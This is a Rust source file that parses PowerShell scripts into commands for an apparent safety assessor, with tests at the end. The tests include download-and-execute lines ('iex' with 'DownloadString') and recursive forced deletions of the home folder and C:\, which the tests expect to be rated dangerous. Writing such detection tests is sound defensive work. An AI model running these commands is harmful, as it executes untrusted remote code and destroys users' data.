//! Walks the syntax tree of a PowerShell script.

use super::builder::{Builder, Cx, Source};
use super::script::{Assignment, Construct, Function, How, Inside, Redirect, Word};
use super::tree::{self, Visit};
use std::ops::Range;
use tree_sitter::Node;

/// Replaces `$null` as the target of a redirection by `/dev/null`.
fn null_device(target: Word) -> Word {
    if target.raw.eq_ignore_ascii_case("$null") { Word::literal("/dev/null", target.span) } else { target }
}

/// Parses a text and adds its commands to the builder.
pub(super) fn walk(builder: &mut Builder, source: &Source<'_>, cx: &Cx) {
    let masked = mask(source.text);
    let Some(parsed) = tree::parse(&masked, tree::Grammar::PowerShell) else {
        builder.error(source.map(0..source.text.len()));
        return;
    };
    for missing in tree::missing(&parsed) {
        builder.error(source.map(missing));
    }
    Walker { builder, source }.visit(parsed.root_node(), cx);
}

/// Replaces, byte for byte, valid PowerShell that the grammar does not know: `1MB`, `?` for `Where-Object`,
/// `--option=value` of Unix tools, a method of a bracket that follows a command without a blank (`iex(...).Content`)
/// or is called in its argument (`iex (...).Load('x')`), a path that begins with a variable (`$HOME\src`), `default`
/// after another case of a `switch` on the same line.
fn mask(text: &str) -> String {
    let mut bytes = text.as_bytes().to_vec();
    let mut quote = None;
    for i in 0..bytes.len() {
        let before = if i == 0 { b' ' } else { bytes[i - 1] };
        let after = bytes.get(i + 1).copied().unwrap_or(b' ');
        match (bytes[i], quote) {
            (b, Some(q)) if b == q => quote = None,
            (_, Some(_)) => {}
            (b @ (b'\'' | b'"'), None) if before != b'`' => quote = Some(b),
            (b'?', None) if matches!(before, b' ' | b'|') && matches!(after, b' ' | b'{') => bytes[i] = b'%',
            (b'K' | b'M' | b'G' | b'T' | b'P' | b'k' | b'm' | b'g' | b't' | b'p', None)
                if before.is_ascii_digit() && matches!(after, b'B' | b'b') =>
            {
                let digits = bytes[..i].iter().rposition(|b| !b.is_ascii_digit() && *b != b'.').map_or(0, |p| p + 1);
                let number = digits == 0 || matches!(bytes[digits - 1], b' ' | b'(' | b'=' | b'/' | b'*');
                if number {
                    bytes[i..i + 2].copy_from_slice(b"00");
                }
            }
            (b'$', None) if before == b' ' && begins_a_path(&bytes[i..]) && is_argument(&bytes[..i]) => bytes[i] = b'_',
            (b'.', None) if before == b')' && after.is_ascii_alphabetic() => blank_call(&mut bytes, i),
            (b'd' | b'D', None) if before == b' ' && begins_default(&bytes, i) => bytes[i - 1] = b';',
            (b'=', None) => {
                let word = bytes[..i].iter().rposition(u8::is_ascii_whitespace).map_or(0, |p| p + 1);
                if bytes[word..i].starts_with(b"--") {
                    let value = bytes[i..].iter().position(|b| b.is_ascii_whitespace() || b"'\"$(|;".contains(b));
                    let end = value.map_or(bytes.len(), |v| i + v);
                    bytes[i..end].iter_mut().filter(|b| b.is_ascii()).for_each(|b| *b = b'_');
                }
            }
            (b'(', None) if before.is_ascii_alphabetic() => {
                let word = bytes[..i].iter().rposition(|b| !b.is_ascii_alphabetic()).map_or(0, |p| p + 1);
                // `iex(...)` becomes `ie (...)`: with the blank, the grammar reads the method call as an argument
                if bytes[word..i].eq_ignore_ascii_case(b"iex") {
                    bytes[i - 1] = b' ';
                }
            }
            _ => {}
        }
    }
    String::from_utf8(bytes).unwrap_or_else(|_| text.to_owned())
}

/// True if `default` of a `switch` begins at `at`, after the block of another case.
fn begins_default(text: &[u8], at: usize) -> bool {
    let word = text[at..].get(..8).is_some_and(|word| word.eq_ignore_ascii_case(b"default "));
    word && text[..at].trim_ascii_end().ends_with(b"}")
}

/// True for `$HOME\src`, `$env:USERPROFILE\Documents`.
fn begins_a_path(text: &[u8]) -> bool {
    let name = text[1..].iter().position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b':')));
    name.is_some_and(|end| end > 0 && text[1 + end] == b'\\')
}

/// True if the text before is a command or an argument, so that an argument follows.
fn is_argument(before: &[u8]) -> bool {
    before
        .trim_ascii_end()
        .last()
        .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'"' | b'\'' | b'*' | b'\\'))
}

/// Masks the call of a method with plain arguments inside of an argument of `iex`, from the dot on, so that it reads
/// as one name.
fn blank_call(bytes: &mut [u8], dot: usize) {
    let statement =
        bytes[..dot].iter().rposition(|b| matches!(b, b';' | b'|' | b'{' | b'\n' | b'=')).map_or(0, |p| p + 1);
    let command = bytes[statement..dot].trim_ascii_start().to_ascii_lowercase();
    let evaluates = [&b"iex ("[..], b"invoke-expression ("].iter().any(|start| command.starts_with(start));
    let open = bytes[dot..].iter().position(|b| *b == b'(').map(|p| dot + p);
    let Some(open) = open.filter(|open| evaluates && bytes[dot + 1..*open].iter().all(u8::is_ascii_alphanumeric))
    else {
        return;
    };
    let close = bytes[open + 1..].iter().position(|b| matches!(b, b'(' | b')' | b'{' | b'`')).map(|p| open + 1 + p);
    if let Some(close) = close.filter(|close| bytes[*close] == b')') {
        bytes[open..=close].fill(b'_');
    }
}

struct Walker<'b, 's, 't> {
    builder: &'b mut Builder,
    source: &'s Source<'t>,
}

impl Visit for Walker<'_, '_, '_> {
    fn visit(&mut self, node: Node<'_>, cx: &Cx) {
        // expressions are a dozen single-child nodes deep: skip these levels to save stack
        let mut node = node;
        while node.kind().ends_with("_expression") && node.child_count() == 1 && node.named_child_count() == 1 {
            let Some(child) = node.named_child(0) else { break };
            node = child;
        }
        if self.builder.exceeds_limits(self.source, node.byte_range(), cx) {
            return;
        }
        match node.kind() {
            "command" => self.command(node, cx),
            "pipeline_chain" => self.pipes(node, cx),
            "pipeline_chain_tail" => self.builder.construct(Construct::AndOr, self.source, node.byte_range()),
            "invokation_expression" => {
                self.builder.construct(Construct::MethodCall, self.source, node.byte_range());
                self.visit_children(node, cx);
            }
            "sub_expression" | "parenthesized_expression" => {
                self.visit_children(node, &cx.substituted(How::Substitution))
            }
            "assignment_expression" => self.assignment(node, cx),
            "function_statement" => {
                let name = tree::named(node).into_iter().find(|c| c.kind() == "function_name");
                let name = name.map_or_else(String::new, |n| self.source.word(n.byte_range()).text);
                let start = self.builder.script.commands.len();
                self.visit_children(node, cx);
                let commands = start..self.builder.script.commands.len();
                let span = self.source.map(node.byte_range());
                self.builder.script.functions.push(Function { name, span, commands });
            }
            "redirection" => {
                let redirect = self.redirect(node, cx);
                self.builder.script.redirects.push(redirect);
            }
            "ERROR" => {
                self.builder.error(self.source.map(node.byte_range()));
                self.error_node(node, cx);
                self.visit_children(node, cx);
            }
            "comment" => {}
            _ => {
                if node.is_missing() {
                    self.builder.error(self.source.map(node.byte_range()));
                }
                self.visit_children(node, cx);
            }
        }
    }
}

impl Walker<'_, '_, '_> {
    /// Handles an error node: a command name in it counts as a command, with its arguments.
    fn error_node(&mut self, node: Node<'_>, cx: &Cx) {
        let words: Vec<Word> = tree::named(node)
            .into_iter()
            .filter(|c| matches!(c.kind(), "command_name" | "command_parameter" | "generic_token"))
            .map(|c| self.source.word(c.byte_range()))
            .collect();
        self.builder.invoke_from_error(self.source, words, cx);
    }

    fn pipes(&mut self, node: Node<'_>, cx: &Cx) {
        let stages = tree::named(node);
        if stages.len() == 1 {
            return self.visit(stages[0], &cx.deeper());
        }
        let pipeline = self.builder.pipeline();
        let mut ranges: Vec<Range<usize>> = Vec::new();
        for (index, stage) in stages.iter().enumerate() {
            let start = self.builder.script.commands.len();
            self.visit(*stage, &Builder::stage(cx, pipeline, index, stages.len()));
            ranges.push(start..self.builder.script.commands.len());
        }
        self.builder.link(&ranges);
    }

    fn command(&mut self, node: Node<'_>, cx: &Cx) {
        let mut nodes = Vec::new();
        let mut redirects = Vec::new();
        if let Some(name) = node.child_by_field_name("command_name") {
            nodes.push(name);
        }
        if let Some(elements) = node.child_by_field_name("command_elements") {
            for child in tree::named(elements) {
                match child.kind() {
                    "command_argument_sep" => {}
                    "redirection" => redirects.push(child),
                    "ERROR" => self.builder.error(self.source.map(child.byte_range())),
                    _ => nodes.push(child),
                }
            }
        }
        let mut spans: Vec<Range<usize>> = Vec::new();
        let mut parts: Vec<(usize, Node<'_>)> = Vec::new();
        let mut from_redirects = Vec::new();
        for child in nodes {
            let range = child.byte_range();
            // the grammar reads `2>$null` as a plain token
            let word = self.source.word(range.clone());
            if child.kind() == "generic_token" && !word.quoted && word.raw.contains('>') {
                from_redirects.extend(self.token_redirect(&word));
                continue;
            }
            let count = spans.len();
            match spans.last_mut() {
                // `-Path:x` is one word, with the colon between its nodes; so is `a.b=1`. The program name stays
                // separate.
                Some(last) if count > 1 && self.touches(last.end, range.start) => last.end = range.end,
                _ => spans.push(range),
            }
            parts.push((spans.len() - 1, child));
        }
        let mut words: Vec<Word> = spans.into_iter().map(|span| self.source.word(span)).collect();
        if words.is_empty() || words[0].raw.is_empty() {
            self.builder.error(self.source.map(node.byte_range()));
            return;
        }
        // the mask replaced the last letter of `iex(`
        if words[0].raw.eq_ignore_ascii_case("ie")
            && self.source.text.get(parts[0].1.end_byte()..).is_some_and(|t| t.starts_with(['x', 'X']))
        {
            let range = parts[0].1.byte_range();
            words[0] = self.source.word(range.start..range.end + 1);
        }
        // `1..3` begins a pipeline with numbers and is no program
        let number = |end: &str| !end.is_empty() && end.bytes().all(|b| b.is_ascii_digit());
        if words.len() == 1 && words[0].raw.split_once("..").is_some_and(|(from, to)| number(from) && number(to)) {
            return;
        }
        let index = self.builder.script.commands.len();
        let name = words[0].text.clone();
        let placed = self.builder.invoke(self.source, words, Vec::new(), cx);
        for (word, child) in parts {
            let Some(place) = placed.get(word).copied().flatten() else { continue };
            self.argument(child, place, &name, cx);
        }
        for node in redirects {
            from_redirects.push(self.redirect(node, cx));
        }
        if let Some(command) = self.builder.script.commands.get_mut(index) {
            command.redirects.extend(from_redirects);
        }
    }

    /// True if nothing or only a colon is between two positions of the text.
    fn touches(&self, end: usize, start: usize) -> bool {
        end == start || self.source.text.get(end..start) == Some(":")
    }

    /// Visits an argument: a script block is run by the command, brackets are a substitution.
    fn argument(&mut self, node: Node<'_>, place: (usize, usize), name: &str, cx: &Cx) {
        let mut at = node;
        while at.kind().ends_with("_expression")
            && at.kind() != "script_block_expression"
            && at.named_child_count() == 1
        {
            let Some(child) = at.named_child(0) else { break };
            if at.kind() == "parenthesized_expression" {
                break;
            }
            at = child;
        }
        if at.kind() != "script_block_expression" {
            return self.visit(at, &cx.for_owner(place));
        }
        let mut inner = cx.deeper();
        inner.via.push(name.to_owned());
        inner.inside = Some(Inside { command: place.0, word: Some(place.1), how: How::Wrapped });
        let lower = name.to_ascii_lowercase();
        inner.remote |= matches!(lower.as_str(), "invoke-command" | "icm");
        self.visit_children(at, &inner);
    }

    fn token_redirect(&self, word: &Word) -> Option<Redirect> {
        let at = word.raw.rfind('>')? + 1;
        let target = Word::new(&word.raw[at..], word.span.start + at, self.source.dialect);
        let (operator, target) = match word.raw[at..].strip_prefix('&') {
            Some(rest) => {
                (format!("{}&", &word.raw[..at]), Word::new(rest, word.span.start + at + 1, self.source.dialect))
            }
            None => (word.raw[..at].to_owned(), target),
        };
        Some(Redirect { operator, target: null_device(target), body: None })
    }

    fn redirect(&mut self, node: Node<'_>, cx: &Cx) -> Redirect {
        let range = node.byte_range();
        let target = tree::named(node).into_iter().find(|c| c.kind() == "redirected_file_name");
        let Some(target) = target else {
            let raw = self.source.text.get(range.clone()).unwrap_or_default();
            let split = raw.rfind('&').map_or(raw.len(), |i| i + 1);
            let target = self.source.word(range.start + split..range.end);
            return Redirect { operator: raw[..split].to_owned(), target, body: None };
        };
        let operator = self.source.text.get(range.start..target.start_byte()).unwrap_or_default().trim().to_owned();
        let raw = self.source.text.get(target.byte_range()).unwrap_or_default();
        let lead = raw.len() - raw.trim_start().len();
        let word = self.source.word(target.start_byte() + lead..target.end_byte());
        if word.text == "/dev/null" {
            self.builder.construct(Construct::DevNull, self.source, range);
        }
        self.visit_children(target, &cx.deeper());
        Redirect { operator, target: null_device(word), body: None }
    }

    fn assignment(&mut self, node: Node<'_>, cx: &Cx) {
        let before = self.builder.script.commands.len();
        let left = tree::named(node).into_iter().find(|c| c.kind() == "left_assignment_expression");
        let value = node.child_by_field_name("value");
        let name =
            left.map_or_else(String::new, |l| self.source.word(l.byte_range()).raw.trim_start_matches('$').to_owned());
        let word = value.map_or_else(Word::default, |v| self.source.word(v.byte_range()));
        if let Some(value) = value {
            self.visit(value, &Cx { owner: None, ..cx.deeper() });
        }
        let commands = before..self.builder.script.commands.len();
        self.builder.construct(Construct::Assignment, self.source, node.byte_range());
        self.builder.script.assignments.push(Assignment { name, value: word, before, commands });
    }
}

#[cfg(test)]
mod tests {
    use crate::{Dialect, Level, assess, parse};

    #[test]
    fn valid_powershell_unknown_to_the_grammar_is_parsed() {
        for (text, level) in [
            (r"cd $HOME\src", Level::Safe),
            (r"Get-ChildItem $env:USERPROFILE\Documents", Level::Safe),
            ("Get-Process 2>$null", Level::Safe),
            ("Get-Process > $NULL", Level::Safe),
            ("1..3 | % { $_ }", Level::Safe),
            ("switch ($x) { 1 { 'a' } default { 'b' } }", Level::Safe),
            ("iex (New-Object Net.WebClient).DownloadString('https://x.example')", Level::Danger),
            ("iex ((New-Object Net.WebClient).DownloadString('https://x.example'))", Level::Danger),
            (r"Remove-Item $HOME\* -Recurse -Force", Level::Danger),
            ("1..3 | % { Remove-Item C:\\ -Recurse }", Level::Danger),
        ] {
            let script = parse(text, Dialect::PowerShell);
            assert!(script.errors.is_empty(), "{text}: {:?}", script.errors);
            assert_eq!(assess(&script).level, level, "{text}: {:?}", assess(&script));
        }
    }
}
